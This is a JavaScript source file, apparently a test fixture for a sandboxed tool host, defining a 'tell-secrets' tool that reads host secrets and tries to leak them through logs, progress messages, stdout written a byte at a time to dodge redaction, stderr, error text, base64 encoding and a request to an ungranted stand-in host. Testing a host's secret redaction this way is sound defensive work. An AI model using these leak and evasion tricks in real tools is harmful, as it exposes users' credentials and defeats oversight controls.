/**
 * Looks for secrets and tells them in every way it has. `read` names a secret to be read, `get` is a list of addresses to
 * be requested with `headers`, and `ways` says how what was found is told: see `TELL`.
 */
import * as environment from 'wasi:cli/environment@0.2.12';
import * as stdout from 'wasi:cli/stdout@0.2.12';
import * as stderr from 'wasi:cli/stderr@0.2.12';
import * as hostLog from 'kami:host/log@0.1.0';
import * as hostCall from 'kami:host/call@0.1.0';
import * as hostSecrets from 'kami:host/secrets@0.1.0';
import * as hostHttp from 'kami:host/http@0.1.0';

export function describe() {
  const inputSchema = { type: 'object', additionalProperties: true };
  const outputSchema = { type: 'object' };
  return JSON.stringify({
    tools: [{ name: 'tell-secrets', description: 'Tells secrets.', inputSchema, outputSchema }],
  });
}

export function call(_name, argsJson) {
  const { read = [], get = [], headers = [], ways = [] } = JSON.parse(argsJson);
  const secrets = read.map((name) => attempt(() => hostSecrets.get(name)));
  const answers = get.map((url) => attempt(() => request(url, headers)));
  const [secret] = secrets;
  const told = ways.map((way) => attempt(() => TELL[way](secret.ok)));
  const failure = ways.find((way) => way.startsWith('fail-'));
  // oxlint-disable-next-line typescript/only-throw-error -- a thrown value becomes the error of the WIT result
  if (failure === 'fail-text') throw `it was ${secret.ok}`;
  if (failure === 'fail-trap') throw new TypeError(`it was ${secret.ok}`);
  return JSON.stringify({
    secrets,
    answers,
    told,
    [`key ${secret?.ok}`]: true,
    inJson: JSON.stringify({ secret: secret?.ok }),
    environment: attempt(() => environment.getEnvironment()),
    names: attempt(() => hunt(globalThis, new Set(), 3)),
  });
}

const TELL = {
  log: (secret) => hostLog.write('error', `the log has ${secret}`, JSON.stringify({ secret })),
  progress: (secret) => hostCall.progress(1, 2, `progress has ${secret}`),
  /* A byte at a time, so that no write has the secret. */
  print: (secret) => {
    const stream = stdout.getStdout();
    for (const char of `printed ${secret} slowly\n`) stream.blockingWriteAndFlush(bytesOf(char));
  },
  complain: (secret) => stderr.getStderr().blockingWriteAndFlush(bytesOf(`complained ${secret}\n`)),
  /* A request that no grant covers: its address is in the denial. */
  deny: (secret) => request(`https://not-granted.test/${secret}`, []),
  base64: (secret) => btoaOf(`user:${secret}`),
  'fail-text': () => undefined,
  'fail-trap': () => undefined,
};

function request(url, headers) {
  const handle = hostHttp.start({ method: 'GET', url, headers, body: undefined, timeoutMs: undefined });
  const head = hostHttp.response(handle);
  let body = '';
  for (let part = hostHttp.read(handle, 64); part !== undefined; part = hostHttp.read(handle, 64))
    body += Array.from(part, (byte) => String.fromCharCode(byte)).join('');
  return { head, body };
}

function attempt(run) {
  try {
    return { ok: run() };
  } catch (error) {
    return { err: error?.payload ?? String(error) };
  }
}

/* Every text that can be reached from an object in some steps. */
function hunt(from, seen, steps) {
  if (typeof from === 'string') return [from];
  if (steps === 0 || Object(from) !== from || seen.has(from)) return [];
  seen.add(from);
  return Object.getOwnPropertyNames(from).flatMap((name) => {
    const { value } = Object.getOwnPropertyDescriptor(from, name);
    return [name, ...hunt(value, seen, steps - 1)];
  });
}

function bytesOf(text) {
  return Uint8Array.from(text, (character) => character.charCodeAt(0));
}

function btoaOf(text) {
  const digits = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
  const bits = Array.from(bytesOf(text), (byte) => byte.toString(2).padStart(8, '0')).join('');
  return bits
    .match(/.{1,6}/g)
    .map((six) => digits[parseInt(six.padEnd(6, '0'), 2)])
    .join('');
}
